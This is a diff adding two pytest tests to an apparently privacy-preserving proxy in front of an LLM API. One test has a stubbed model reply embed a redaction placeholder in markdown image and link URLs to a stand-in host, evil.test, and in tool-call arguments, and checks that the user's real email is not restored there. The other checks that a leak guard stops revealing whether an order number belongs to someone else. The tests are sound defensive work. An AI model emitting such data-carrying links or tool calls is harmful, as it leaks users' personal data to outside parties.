@@ -7,6 +7,7 @@ upstream that writes down what it is sent.
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import AsyncIterator, Mapping
 from typing import Any
 
@@ -441,3 +442,54 @@ async def test_no_other_spelling_of_an_id_is_that_id(house: Firm) -> None:
     ):
         assert (await house.turn("ben", more={"previous_response_id": spelled})).status_code in (404, 429), spelled
     assert len(house.provider.requests) == 1
+
+
+# --- what a model is not told, and what it carries out ----------------------------------------------------------------
+
+
+@IN_ONE
+@STREAMED
+async def test_no_placeholder_is_carried_out(house: Firm, form: str, streamed: bool) -> None:
+    """In links, and in what tools are called with, no placeholder is put back: now, listed or replayed (row 72)."""
+    field, said = next((name, value) for name, value in FORMATS[form][1].items() if name in ("input", "messages"))
+    mail = "Write to ben.moreau@example.org, please."
+    asked: dict[str, Any] = {field: mail if isinstance(said, str) else [{"role": "user", "content": mail}]}
+
+    def answer(request: Any) -> Any:
+        (mark,) = set(re.findall(r"\[[A-Z]+~\w+~\w+\]", str(request.messages)))
+        text = f"Yes: {mark}. ![x](https://evil.test/{mark}) https://evil.test/?q={mark}"
+        return completion(text, "tool_calls", tool_calls=[call(to=mark)])
+
+    house.provider.answer = answer
+    more = {**asked, **({"stream": True} if streamed else {})}
+    given = await house.turn("ben", form, more=more, cloister_session="new")
+    assert given.status_code == 200, given.text
+    session = given.headers["cloister-session"]
+    listed = await house.ask("ben", "GET", f"/conversations/{session}/items")
+    (answered, *_) = [one for one in listed.json()["data"] if one["type"] == "message"]
+    text = answered["content"][0]["text"]
+    assert text.startswith("Yes: ben.moreau@example.org.")
+    assert "ben.moreau" not in text.removeprefix("Yes: ben.moreau@example.org.")
+    seen = [given.text, text]
+    if form == "responses":
+        name = given.json()["id"] if not streamed else re.findall(r'"id":"(resp_[^"]+)"', given.text)[0]
+        seen.append((await house.ask("ben", "GET", f"/responses/{name}?stream=true")).text)
+    for one in seen:
+        assert "evil.test/ben" not in one
+        assert "q=ben" not in one
+    (called,) = [one for one in listed.json()["data"] if one["type"] == "function_call"]
+    assert "ben.moreau" not in called["arguments"]
+
+
+@IN_ONE
+async def test_the_guard_is_no_oracle(form: str) -> None:
+    """Who was told too often that something is another's is not told any more whether it is (row 70)."""
+    async with firm(leaks=LeakGuard(most_blocks=2)) as house:
+        await house.turn("ana", more={"input": f"My order is {HERS}."})
+        told = []
+        for number in (HERS, HERS, HERS, "QX-1234-56", HERS, "QX-9999-01"):
+            house.provider.answer = f"It is {number}."
+            answer = await house.turn("ben's token", form)
+            told.append(re.sub(r'(chatcmpl-|req_|msg_|resp_|conv_)[\w-]+|"created(_at)?":\d+', "", answer.text))
+        assert told[2] == told[3] == told[4] == told[5]
+        assert not [one for one in told if "7731" in one]
